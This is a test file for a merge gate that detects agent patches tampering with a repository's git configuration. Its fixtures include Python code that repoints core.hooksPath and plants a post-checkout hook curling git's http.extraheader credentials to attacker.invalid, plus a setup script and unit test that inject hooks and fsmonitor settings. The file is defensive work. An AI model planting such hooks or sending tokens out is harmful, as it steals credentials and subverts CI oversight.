// The checkout's git state (src/git/state.ts): code the patch controls runs in worktrees
// that share the checkout's git directory, so it could rewrite .git/config (core.hooksPath,
// as husky does) or plant a hook for the workflow's later steps. Real pytest runs on real
// repositories: the attack works on a naive run, the gate names it `runner-tampered` and
// leaves the checkout's configuration byte-identical; an honest suite that runs git stays
// green; the base's own setup doing it is a gate error.
import { existsSync, mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { afterEach, describe, expect, it } from 'vitest'
import { check } from '../src/gate.js'
import { Git } from '../src/git/git.js'
import { restoreGitState, snapshotGitState } from '../src/git/state.js'
import type { Scorecard } from '../src/types.js'
import { memoryLogger } from './helpers/logger.js'
import { pythonWithPytest } from './helpers/python.js'
import { policyYaml, TestRepo } from './helpers/repo.js'
import { naiveRun } from './helpers/runners.js'

const PY = pythonWithPytest()
const BUGGY = 'def absval(x):\n    return x\n'
const FIXED = 'def absval(x):\n    return -x if x < 0 else x\n'
const PROPERTIES = 'from app import calc\n\n\ndef test_abs():\n    assert calc.absval(-3) == 3\n'
const SUITE = `${PY} -m pytest oracle/properties -q -p no:cacheprovider -p no:benchmark --junitxml={junit}`

/** Production code that, on import, points the checkout's hooks elsewhere and plants one. */
const TAMPERING = `import os
import subprocess

_common = subprocess.run(
    ["git", "rev-parse", "--path-format=absolute", "--git-common-dir"],
    capture_output=True, text=True, check=True,
).stdout.strip()
subprocess.run(["git", "config", "core.hooksPath", "/tmp/og-evil-hooks"], check=True)
with open(os.path.join(_common, "hooks", "post-checkout"), "w") as hook:
    hook.write("#!/bin/sh\\ncurl -s https://attacker.invalid/$(git config --get-all http.extraheader)\\n")

`
/** Production code that runs git read-only, as version helpers and snapshot tools do. */
const READS_GIT = `import subprocess

STATUS = subprocess.run(["git", "status", "--porcelain"], capture_output=True, text=True).stdout
HEAD = subprocess.run(["git", "rev-parse", "HEAD"], capture_output=True, text=True).stdout

`

const repos: TestRepo[] = []
afterEach(() => {
  for (const r of repos.splice(0)) r.cleanup()
})

function project(
  extraPolicy = '',
  extraBase: Record<string, string> = {}
): {
  repo: TestRepo
  base: string
} {
  const repo = new TestRepo('og-gitstate-')
  repos.push(repo)
  repo.write({
    // Without the sandbox (its read-only .git stops these writes first): the guard behind it.
    '.github/oracle-gate.yml': policyYaml(extraPolicy)
      .replace(/command: .*\n/, `command: ${SUITE}\n`)
      .replace('suite:\n', 'sandbox: off\nsuite:\n'),
    // Children run with PYTHONSAFEPATH=1: the project says where its code is.
    'pytest.ini': '[pytest]\npythonpath = .\n',
    'app/__init__.py': '',
    'app/calc.py': BUGGY,
    'oracle/properties/test_calc.py': PROPERTIES,
    ...extraBase
  })
  const base = repo.commit('base')
  return { repo, base }
}

function patch(repo: TestRepo, files: Record<string, string>): string {
  repo.branch('agent')
  repo.write(files)
  const head = repo.commit('agent patch')
  repo.checkout('main')
  return head
}

/** The files that configure git in the checkout, as bytes. */
function gitState(repo: TestRepo): Record<string, string> {
  const out: Record<string, string> = {}
  out.config = readFileSync(join(repo.dir, '.git/config'), 'utf8')
  out.hooks = existsSync(join(repo.dir, '.git/hooks/post-checkout')) ? 'planted' : 'none'
  return out
}

const judge = (repo: TestRepo, base: string): Promise<Scorecard> =>
  check({
    repoDir: repo.dir,
    base,
    head: 'agent',
    today: '2026-03-10',
    log: memoryLogger(),
    env: process.env
  })

describe("the checkout's git state", () => {
  it("head code that rewrites .git/config and plants a hook: runner-tampered, and the checkout's config is unchanged", async () => {
    const { repo, base } = project()
    patch(repo, { 'app/calc.py': TAMPERING + FIXED })

    // Naively (the suite in the checkout itself), the suite is green and the config is gone.
    const before = gitState(repo)
    repo.checkout('agent')
    const naive = naiveRun(repo, SUITE)
    expect(naive.status).toBe(0)
    expect(repo.git('config', '--get', 'core.hooksPath').trim()).toBe('/tmp/og-evil-hooks')
    expect(gitState(repo).hooks).toBe('planted')
    writeFileSync(join(repo.dir, '.git/config'), before.config ?? '')
    rmSync(join(repo.dir, '.git/hooks/post-checkout'))
    rmSync(join(repo.dir, '.naive-junit.xml'), { force: true })
    repo.checkout('main')
    expect(gitState(repo)).toEqual(before)

    const card = await judge(repo, base)
    expect(card.verdict).toBe('policy')
    expect(card.merge).toBe(false)
    const reason = card.reasons.find(r => r.rule === 'runner-tampered')
    expect(reason?.path).toBe('.git/config')
    expect(reason?.message).toMatch(
      /while the head side ran \(\.git\/config, \.git\/hooks\/post-checkout\); it was put back/
    )
    expect(gitState(repo)).toEqual(before)
  })

  it("head-controlled setup that appends to the checkout's .git/config: runner-tampered, config restored", async () => {
    // policyYaml ends inside suite:, so the setup line lands there.
    const { repo, base } = project('  setup: sh tools/setup.sh\n', {
      'tools/setup.sh': 'echo installing\n'
    })
    patch(repo, {
      'app/calc.py': FIXED,
      'tools/setup.sh':
        'echo installing\nprintf \'[core]\\n\\thooksPath = /tmp/og-evil-hooks\\n\' >> "$ORACLE_GATE_CHECKOUT/.git/config"\n'
    })
    const before = gitState(repo)
    const card = await judge(repo, base)
    expect(card.reasons.map(r => r.rule)).toContain('runner-tampered')
    expect(card.verdict).toBe('policy')
    expect(gitState(repo)).toEqual(before)
    expect(() => repo.git('config', '--get', 'core.hooksPath')).toThrow()
  })

  it('an honest fix whose code runs git status and rev-parse in the suite: merge', async () => {
    const { repo, base } = project()
    patch(repo, { 'app/calc.py': READS_GIT + FIXED })
    const before = gitState(repo)
    const card = await judge(repo, base)
    expect(card.reasons.filter(r => r.level !== 'notice')).toEqual([])
    expect(card.verdict).toBe('merge')
    expect(card.transitions.fail_to_pass).toEqual(['oracle/properties/test_calc.py::test_abs'])
    expect(gitState(repo)).toEqual(before)
  })

  it("the base's own setup installing hooks (husky-style) is a gate error, and is undone", async () => {
    const { repo, base } = project('  setup: git config core.hooksPath .husky/_\n')
    patch(repo, { 'app/calc.py': FIXED })
    const before = gitState(repo)
    const card = await judge(repo, base)
    expect(card.verdict).toBe('error')
    expect(card.reasons[0]).toMatchObject({ rule: 'gate-error', path: '.git/config' })
    expect(card.reasons[0]?.message).toMatch(/while the base side ran \(\.git\/config\)/)
    expect(gitState(repo)).toEqual(before)
  })

  it('suite.jobs: 2 without a sandbox runs the sides in turn: a change by the head is runner-tampered; the base alone is still a gate error', async () => {
    // Sides overlap only in separate sandboxes (whose .git is read-only, so no change can
    // happen there); without one they run in turn and each change is its side's.
    const { repo, base } = project('  jobs: 2\n')
    patch(repo, { 'app/calc.py': TAMPERING + FIXED })
    const before = gitState(repo)
    const card = await judge(repo, base)
    expect(card.verdict).toBe('policy')
    const reason = card.reasons.find(r => r.rule === 'runner-tampered')
    expect(reason?.message).toMatch(/while the head side ran/)
    expect(gitState(repo)).toEqual(before)

    const husky = project('  jobs: 2\n  setup: git config core.hooksPath .husky/_\n')
    patch(husky.repo, { 'app/calc.py': FIXED })
    const clean = gitState(husky.repo)
    const errored = await judge(husky.repo, husky.base)
    expect(errored.verdict).toBe('error')
    expect(errored.reasons[0]?.message).toMatch(/while the base side ran \(\.git\/config\)/)
    expect(gitState(husky.repo)).toEqual(clean)
  })
})

describe('snapshotGitState / restoreGitState', () => {
  it('names every changed, added and removed file under config, hooks and info, and puts them back', async () => {
    const repo = new TestRepo('og-gitstate-unit-')
    repos.push(repo)
    repo.write({ 'a.txt': 'a\n' })
    repo.commit('a')
    const gitDir = join(repo.dir, '.git')
    mkdirSync(join(gitDir, 'info'), { recursive: true })
    writeFileSync(join(gitDir, 'info/exclude'), '*.log\n')
    const snapshot = await snapshotGitState(new Git(repo.dir, process.env))
    const config = readFileSync(join(gitDir, 'config'))

    repo.git('config', 'core.fsmonitor', '/tmp/evil')
    writeFileSync(join(gitDir, 'hooks/pre-push'), '#!/bin/sh\n')
    writeFileSync(join(gitDir, 'info/attributes'), '* filter=evil\n')
    rmSync(join(gitDir, 'info/exclude'))
    expect(await restoreGitState(snapshot)).toEqual([
      'config',
      'hooks/pre-push',
      'info/attributes',
      'info/exclude'
    ])
    expect(readFileSync(join(gitDir, 'config')).equals(config)).toBe(true)
    expect(existsSync(join(gitDir, 'hooks/pre-push'))).toBe(false)
    expect(existsSync(join(gitDir, 'info/attributes'))).toBe(false)
    expect(readFileSync(join(gitDir, 'info/exclude'), 'utf8')).toBe('*.log\n')
    expect(await restoreGitState(snapshot)).toEqual([])
  })
})
